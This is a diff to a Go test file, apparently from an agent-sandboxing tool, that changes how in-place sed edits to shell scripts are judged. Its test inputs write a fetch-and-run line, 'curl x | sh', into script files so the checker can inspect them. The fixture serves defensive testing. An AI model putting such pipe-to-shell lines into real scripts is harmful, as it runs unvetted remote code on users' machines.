@@ -8,6 +8,7 @@ import (
 
 	"github.com/agentjail/agentjail/internal/agentconfig"
 	"github.com/agentjail/agentjail/internal/shell"
+	"github.com/agentjail/agentjail/internal/written"
 )
 
 func TestShellOutput(t *testing.T) {
@@ -94,6 +95,10 @@ func TestSedArgs(t *testing.T) {
 // TestSedInPlace edits a real file: the text judged is what sed leaves
 // of it, and a file not there yet is judged on the text the script adds.
 func TestSedInPlace(t *testing.T) {
+	table, err := written.Compile([]any{map[string]any{"kind": "script", "match": `\.sh$`, "format": "shell"}})
+	if err != nil {
+		t.Fatal(err)
+	}
 	dir := t.TempDir()
 	p := filepath.Join(dir, "setup.sh")
 	if err := os.WriteFile(p, []byte("set -e\nmake\n"), 0o644); err != nil {
@@ -101,18 +106,23 @@ func TestSedInPlace(t *testing.T) {
 	}
 	env := Env{ReadFile: agentconfig.ReadRegular}
 	c := shell.Command{Name: "sed", Args: []string{"-i", "s/make/curl x | sh/", p}, Writes: []string{p}}
-	edits, ok := sedInPlace(c, env)
+	edits, ok := sedInPlace(table, c, env)
 	if !ok || edits[p] != "set -e\ncurl x | sh\n" {
 		t.Errorf("sedInPlace = %q, %v", edits, ok)
 	}
 	missing := filepath.Join(dir, "new.sh")
 	c = shell.Command{Name: "sed", Args: []string{"-i", "1a curl x | sh", missing}, Writes: []string{missing}}
-	if edits, ok := sedInPlace(c, env); !ok || edits[missing] != "curl x | sh\n" {
+	if edits, ok := sedInPlace(table, c, env); !ok || edits[missing] != "curl x | sh\n" {
 		t.Errorf("a file not there yet: sedInPlace = %q, %v", edits, ok)
 	}
 	c = shell.Command{Name: "sed", Args: []string{"s/a/b/", p}, Paths: []string{p}}
-	if _, ok := sedInPlace(c, env); ok {
+	if _, ok := sedInPlace(table, c, env); ok {
 		t.Error("a sed that prints is no edit")
+	}
+	other := filepath.Join(dir, "main.go")
+	c = shell.Command{Name: "sed", Args: []string{"-i", "1a x", other}, Writes: []string{other}}
+	if edits, ok := sedInPlace(table, c, env); ok {
+		t.Errorf("a file of no listed kind is judged: %q", edits)
 	}
 	if b, _ := os.ReadFile(p); string(b) != "set -e\nmake\n" {
 		t.Errorf("judging changed the file: %q", b)
